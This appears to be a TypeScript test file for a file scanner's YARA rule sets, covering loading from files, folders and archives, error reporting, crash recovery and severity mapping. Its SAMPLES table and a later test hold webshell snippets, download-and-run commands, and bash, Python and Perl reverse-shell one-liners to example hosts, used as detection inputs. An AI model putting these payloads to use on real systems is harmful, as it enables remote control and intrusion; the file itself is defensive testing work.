import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, readdirSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { zipOf } from '../../../test/support/archives.ts';
import { found, scanLab } from '../../../test/support/scan.ts';
import { tempDir } from '../../../test/support/scope.ts';
import { shippedRules } from './rule-files.io.ts';
import { checkRules, createRuleSets } from './rule-sets.io.ts';
import { severityOf } from './yara.ts';

const rule = (name: string, text: string, meta = ''): string =>
  `rule ${name} { ${meta === '' ? '' : `meta: ${meta}`} strings: $a = "${text}" condition: $a }\n`;

test('the shipped rules compile', async () => {
  assert.deepEqual(await checkRules(shippedRules()), { kind: 'checked', problems: [] });
});

test('a rule set is taken from a file, a folder or an archive, is in force at once, and goes again', async (t) => {
  const dir = await tempDir(t, 'rules');
  const lab = await scanLab(t, undefined, { dir });
  const sets = createRuleSets({
    dataDir: join(dir, 'data'),
    bytesMax: () => 1 << 20,
    publish: () => lab.engine.reloadRules(),
  });
  const before = lab.engine.version;
  assert.equal((await lab.scan('some NEEDLE here')).verdict, 'clean');
  writeFileSync(join(dir, 'Mine.yar'), rule('Needle', 'NEEDLE', 'score = 65'));
  assert.equal((await sets.add(join(dir, 'Mine.yar'))).name, 'mine');
  const verdict = await lab.scan('some NEEDLE here');
  assert.deepEqual(
    [verdict.verdict, verdict.score, verdict.findings[0]?.source],
    ['malicious', 75, 'mine/Mine'],
  );
  assert.notEqual(lab.engine.version, before);
  mkdirSync(join(dir, 'folder', 'sub'), { recursive: true });
  writeFileSync(join(dir, 'folder', 'one.yara'), rule('One', 'FIRST'));
  writeFileSync(join(dir, 'folder', 'sub', 'two.yar'), rule('Two', 'SECOND'));
  writeFileSync(join(dir, 'folder', 'README.md'), 'no rules');
  const folder = await sets.add(join(dir, 'folder'));
  assert.deepEqual([folder.files, folder.rules], [2, 2]);
  const archive = zipOf([
    { name: '../../escape/three.yar', bytes: rule('Three', 'THIRD') },
    { name: 'LICENSE', bytes: 'text' },
  ]);
  writeFileSync(join(dir, 'pack.zip'), archive);
  await sets.add(join(dir, 'pack.zip'), 'pack');
  assert.deepEqual(readdirSync(join(dir, 'data', 'scan', 'rules')), ['folder', 'mine', 'pack']);
  assert.deepEqual(found(await lab.scan('FIRST SECOND THIRD')), ['yara One', 'yara Two', 'yara Three']);
  assert.deepEqual(
    sets.list().map(({ name, files }) => [name, files]),
    [
      ['shipped', shippedRules().length],
      ['folder', 2],
      ['mine', 1],
      ['pack', 1],
    ],
  );
  await sets.remove('mine');
  assert.equal((await lab.scan('some NEEDLE here')).verdict, 'clean');
  await assert.rejects(sets.remove('mine'), { code: 'SCAN_RULES_UNKNOWN' });
});

test('a set with mistakes is refused whole, with every file and line, and the old one stays', async (t) => {
  const dir = await tempDir(t, 'rules');
  let published = 0;
  const sets = createRuleSets({
    dataDir: join(dir, 'data'),
    bytesMax: () => 10_000,
    publish: async () => void published++,
  });
  mkdirSync(join(dir, 'set'));
  writeFileSync(join(dir, 'set', 'good.yar'), rule('Good', 'x1y2'));
  await sets.add(join(dir, 'set'));
  writeFileSync(join(dir, 'set', 'a.yar'), 'rule A {\n condition:\n  nothing_of_it\n}\n');
  writeFileSync(join(dir, 'set', 'b.yar'), '\n\nrule B { condition }\n');
  await assert.rejects(sets.add(join(dir, 'set')), (error: Error) => {
    assert.match(error.message, /has 2 mistakes/);
    assert.match(error.message, /set\/a line 3: unknown identifier `nothing_of_it`/);
    assert.match(error.message, /set\/b line 3: syntax error/);
    return true;
  });
  assert.deepEqual([sets.list()[1]?.files, published], [1, 1]);
  await assert.rejects(sets.add(join(dir, 'none')), { code: 'SCAN_RULES_UNREADABLE' });
  await assert.rejects(sets.add(join(dir, 'set', 'good.yar'), 'shipped'), { code: 'SCAN_RULES_NAME' });
  writeFileSync(join(dir, 'large.yar'), ' '.repeat(20_000));
  await assert.rejects(sets.add(join(dir, 'large.yar')), { code: 'SCAN_RULES_TOO_LARGE' });
  writeFileSync(join(dir, 'cut.zip'), zipOf([{ name: 'a.yar', bytes: rule('A', 'abcd'), crc: 1 }]));
  await assert.rejects(sets.add(join(dir, 'cut.zip')), { code: 'SCAN_RULES_UNREADABLE' });
});

test('files of a set that would have one name, and a set whose replacement was cut short, are all there', async (t) => {
  const dir = await tempDir(t, 'rules');
  const dataDir = join(dir, 'data');
  const sets = createRuleSets({ dataDir, bytesMax: () => 10_000, publish: () => Promise.resolve() });
  const parts = ['x/a.yar', 'x/a.yara', 'x/a b.yar', 'x/a_b.yar', '../a.yar'];
  writeFileSync(
    join(dir, 'set.zip'),
    zipOf(parts.map((name, at) => ({ name, bytes: rule(`R${at}`, `words${at}`) }))),
  );
  assert.deepEqual((({ files, rules }) => [files, rules])(await sets.add(join(dir, 'set.zip'))), [5, 5]);
  const folder = join(dataDir, 'scan', 'rules');
  // As a process leaves it that is killed between the two renames.
  renameSync(join(folder, 'set'), join(folder, '.old-set'));
  mkdirSync(join(folder, '.new-123456'));
  assert.deepEqual(sets.list().length, 1);
  writeFileSync(join(dir, 'other.yar'), rule('Other', 'words'));
  await sets.add(join(dir, 'other.yar'));
  assert.deepEqual(
    sets
      .list()
      .map(({ name, rules }) => [name, rules])
      .slice(1),
    [
      ['other', 1],
      ['set', 5],
    ],
  );
  assert.deepEqual(readdirSync(folder).toSorted(), ['other', 'set']);
});

test('rules may ask for the name of a file; verdicts are then remembered by name as well', async (t) => {
  const dir = await tempDir(t, 'rules');
  const lab = await scanLab(t, undefined, { dir });
  const sets = createRuleSets({
    dataDir: join(dir, 'data'),
    bytesMax: () => 10_000,
    publish: () => lab.engine.reloadRules(),
  });
  writeFileSync(
    join(dir, 'named.yar'),
    'rule Named { condition: filename == "evil.txt" and extension == ".txt" }',
  );
  await sets.add(join(dir, 'named.yar'));
  assert.deepEqual(found(await lab.scan('text', 'good.txt')), []);
  assert.deepEqual(found(await lab.scan('text', 'evil.txt')), ['yara Named']);
  const inside = await lab.scan(zipOf([{ name: 'folder/evil.txt', bytes: 'text' }]), 'x.zip');
  assert.deepEqual(found(inside), ['yara Named folder/evil.txt']);
});

test('severity from the meta section, from a score, and without either', () => {
  assert.equal(severityOf({ severity: 'Low' }), 'low');
  assert.equal(severityOf({ score: 95 }), 'critical');
  assert.equal(severityOf({ score: 75 }), 'high');
  assert.equal(severityOf({ score: '60' }), 'medium');
  assert.equal(severityOf({ score: 40 }), 'low');
  assert.equal(severityOf({}), 'high');
});

/** A sample for each shipped rule, made so that it does nothing. */
const SAMPLES: Readonly<Record<string, string>> = {
  Webshell_PHP_Runs_Input: '<?php @eval(base64_decode($_POST["x"])); ?>',
  Webshell_PHP_Packed: `<?php eval(gzinflate(base64_decode('${'QUJD'.repeat(120)}'))); ?>`,
  Webshell_ASPX_Runs_Input: '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
  Webshell_ASP_Runs_Input: '<%execute request("x")%>',
  Webshell_JSP_Runs_Input: '<% Runtime.getRuntime().exec(request.getParameter("x")); %>',
  PowerShell_Downloads_And_Runs: "IEX (New-Object Net.WebClient).DownloadString('http://host.example/a')",
  PowerShell_Loads_Code_Into_Memory:
    '$k = Add-Type "[DllImport]VirtualAlloc CreateThread"; [Runtime.InteropServices.Marshal]::Copy($c,0,$p,9)',
  Script_Host_Downloads_And_Runs:
    'Set x=CreateObject("MSXML2.XMLHTTP"):Set s=CreateObject("ADODB.Stream"):s.SaveToFile "a":CreateObject("WScript.Shell").Run "a"',
  Shell_Downloads_And_Runs: '#!/bin/sh\ncd /tmp; wget http://192.0.2.1/a -O a; chmod 777 a; ./a\n',
  Reverse_Shell: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  HTML_Smuggling: `<html><script>var d=atob("${'QUJD'.repeat(2100)}");var b=new Blob([d]);a.download="x.zip";a.click()</script></html>`,
  Packer_UPX: `MZ${'\0'.repeat(100)}UPX0\0\0\0\0${'\0'.repeat(32)}UPX1\0\0\0\0${'\0'.repeat(5000)}UPX!`,
  Packer_By_Section_Names: `MZ${'\0'.repeat(100)}.vmp0\0\0\0${'\0'.repeat(5000)}`,
  RTF_Equation_Object: '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}}}',
};

for (const [name, sample] of Object.entries(SAMPLES)) {
  test(`a shipped rule finds what it is for: ${name}`, async (t) => {
    const lab = await scanLab(t);
    assert.ok(found(await lab.scan(sample)).includes(`yara ${name}`), found(await lab.scan(sample)).join());
  });
}

test('parts of a command that only mean something close together', async (t) => {
  const lab = await scanLab(t);
  const far = 'y'.repeat(500);
  const python = (between: string): string =>
    `python -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));${between}os.dup2(s.fileno(),0);pty.spawn("sh")'`;
  const perl = (between: string): string =>
    `perl -e 'use Socket;connect(S,sockaddr_in(1,inet_aton("192.0.2.1")));${between}open(STDIN,">&S");exec("sh -i");'`;
  for (const [sample, name] of [
    ['iwr http://host.example/a.ps1 | iex', 'PowerShell_Downloads_And_Runs'],
    [
      `${far}\r\n(New-Object Net.WebClient).DownloadString("http://h/a") | IEX`,
      'PowerShell_Downloads_And_Runs',
    ],
    [`iwr http://${far} | iex`, undefined],
    [python(''), 'Reverse_Shell'],
    [python(far), undefined],
    [perl(''), 'Reverse_Shell'],
    [perl(far), undefined],
  ] as const) {
    assert.deepEqual(found(await lab.scan(sample)), name === undefined ? [] : [`yara ${name}`], sample);
  }
});

test('shipped rules say nothing of our own source, or of what they are written in', async (t) => {
  const lab = await scanLab(t, (config) => ({ ...config, urls: { ...config.urls, enabled: false } }));
  const here = import.meta.dirname;
  const files = ['', '../content', '../../kernel', '../../protocols/http1', '../policy']
    .map((folder) => join(here, folder))
    .flatMap((folder) => readdirSync(folder).map((name) => join(folder, name)))
    .filter((path) => path.endsWith('.ts') && path !== import.meta.filename);
  assert.ok(files.length > 50);
  for (const path of files) {
    assert.deepEqual(found(await lab.scan(readFileSync(path), path)), [], path);
  }
});
